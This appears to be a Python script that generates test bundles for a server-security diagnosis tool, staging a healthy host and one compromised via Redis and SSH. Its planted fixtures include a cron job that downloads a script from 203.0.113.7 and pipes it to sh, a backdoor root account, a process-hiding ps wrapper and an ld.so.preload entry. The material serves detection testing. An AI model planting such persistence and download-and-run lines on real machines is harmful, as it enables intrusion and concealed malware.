"""Write the security scenario bundles (run once by hand; the JSON files are committed):
``python -m tests.scenarios.make_security_bundles``.

The file-based facts are collected for real from fake machine roots (tests/security_tree.py,
what ``diagnose --root`` reads); the live facts (processes, listeners, probes) are recorded
by hand, as a compromised server would show them.

`security_compromised.json`: a server broken into through Redis and SSH brute force — a
second uid-0 account, a deleted /tmp miner named like a kernel thread, a hidden process, a
replaced ps with /usr/bin/dpkgd, ld.so.preload, a download-and-run cron job, a planted key,
an open Redis pointed at /root/.ssh, an open Jenkins. `security_healthy.json`: the same
machine before.
"""

import json
import tempfile
from pathlib import Path

from hostmedic.collectors.bandwidth import MonitorOptions
from hostmedic.collectors.security import collect_security
from hostmedic.facts.bandwidth import ProcessInfo
from hostmedic.facts.bundle import dump_bundle
from hostmedic.facts.security import (
    HiddenProcess,
    Listener,
    ProcessFacts,
    RunningProcess,
    ServiceFacts,
    ServiceProbe,
)
from hostmedic.gather import GatherContext
from hostmedic.settings import Settings
from tests.security_tree import FIXTURES, elf, healthy_tree

HERE = Path(__file__).parent / "bundles"
T0 = 1795000000.0


def proc(pid, name, exe, *, deleted=False, package=None, cmd=None, user="root"):
    return ProcessInfo(
        pid,
        name,
        exe,
        deleted,
        tuple(cmd if cmd is not None else [exe]),
        0,
        user,
        1,
        4026531840,
        "/system.slice/x.service",
        package,
        True,
    )


def healthy_live() -> tuple[ProcessFacts, ServiceFacts]:
    processes = (
        RunningProcess(proc(1, "systemd", "/usr/lib/systemd/systemd", package="systemd"), False),
        RunningProcess(proc(2, "kthreadd", None, cmd=[]), False),
        RunningProcess(proc(640, "sshd", "/usr/sbin/sshd", package="openssh-server"), False),
        RunningProcess(
            proc(812, "nginx", "/usr/sbin/nginx", package="nginx-light", user="www-data"), False
        ),
        RunningProcess(
            proc(
                901, "redis-server", "/usr/bin/redis-server", package="redis-server", user="redis"
            ),
            False,
        ),
    )
    listeners = (
        Listener("tcp", "0.0.0.0", 2222, 640),
        Listener("tcp", "0.0.0.0", 80, 812),
        Listener("tcp", "127.0.0.1", 6379, 901),
    )
    probes = (
        ServiceProbe(
            "redis",
            "127.0.0.1:6379",
            ("127.0.0.1",),
            901,
            False,
            "-NOAUTH Authentication required.",
        ),
    )
    return ProcessFacts(processes, listeners, (), 32768, T0), ServiceFacts(probes, (), T0)


def compromised_live() -> tuple[ProcessFacts, ServiceFacts]:
    healthy, _ = healthy_live()
    miner = proc(4242, "kworkerds", "/tmp/.x/kworkerds", deleted=True, cmd=["[kworkerds]"])
    backdoor = proc(
        5150, "bsd-port", "/usr/bin/bsd-port/getty", package=None, cmd=["/usr/bin/bsd-port/getty"]
    )
    jenkins = proc(
        7001,
        "java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        package="openjdk-17-jre-headless",
        user="jenkins",
    )
    processes = (
        *healthy.processes,
        RunningProcess(miner, False),
        RunningProcess(backdoor, False),
        RunningProcess(jenkins, False),
    )
    listeners = (
        *healthy.listeners[:2],
        Listener("tcp", "0.0.0.0", 6379, 901),
        Listener("tcp", "0.0.0.0", 8080, 7001),
        Listener("tcp", "0.0.0.0", 65000, 5150),
        Listener("udp", "0.0.0.0", 31337, None),
    )
    hidden = (HiddenProcess(6066, "ksoftirqd/9", "/dev/shm/.k/ksoftirqd", "unlisted"),)
    probes = (
        ServiceProbe(
            "redis",
            "127.0.0.1:6379",
            ("0.0.0.0",),
            901,
            True,
            "+PONG",
            (
                ("dir", "/root/.ssh"),
                ("dbfilename", "authorized_keys"),
                ("protected-mode", "no"),
                ("bind", ""),
            ),
        ),
        ServiceProbe(
            "jenkins",
            "127.0.0.1:8080",
            ("0.0.0.0",),
            7001,
            True,
            "GET /script → 200 x-jenkins: 2.440.1",
        ),
    )
    return (
        ProcessFacts(processes, listeners, hidden, 32768, T0, (3300,)),
        ServiceFacts(probes, ("mysql 10.0.0.5:3306",), T0),
    )


def plant(tree) -> None:
    tree.append("/etc/passwd", "toor:x:0:0::/root:/bin/bash")
    tree.append("/etc/shadow", "toor:$6$s$h:19000:0:99999:7:::")
    tree.file("/usr/bin/dpkgd/ps", elf("ps"))
    tree.file("/usr/bin/ps", '#!/bin/bash\n/usr/bin/dpkgd/ps "$@" | grep -v kworkerds\n')
    tree.file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    tree.file(
        "/etc/cron.d/sysupdate",
        "*/10 * * * * root (curl -fsSL http://203.0.113.7/ldr.sh || wget -q -O- http://203.0.113.7/ldr.sh) | sh\n",
    )
    tree.file("/root/.ssh/authorized_keys", (FIXTURES / "redis_authorized_keys.bin").read_bytes())
    tree.file("/var/log/wtmp", (FIXTURES / "wtmp.bin").read_bytes())
    tree.file("/var/log/btmp", (FIXTURES / "btmp.bin").read_bytes())
    tree.file("/var/log/auth.log", "")
    tree.file(
        "/etc/ssh/sshd_config.d/50-keys.conf", "PermitRootLogin yes\nPasswordAuthentication yes\n"
    )


def write(name: str, planted: bool) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        tree = healthy_tree(Path(tmp))
        if planted:
            plant(tree)
        ctx = GatherContext(Settings(home_country="CN"), 0, MonitorOptions(), root=tmp, live=False)
        facts = collect_security(ctx)
    live = compromised_live() if planted else healthy_live()
    facts["security_processes"], facts["security_services"] = live
    (HERE / name).write_text(json.dumps(dump_bundle(facts), ensure_ascii=False, indent=1) + "\n")


if __name__ == "__main__":
    write("security_compromised.json", planted=True)
    write("security_healthy.json", planted=False)
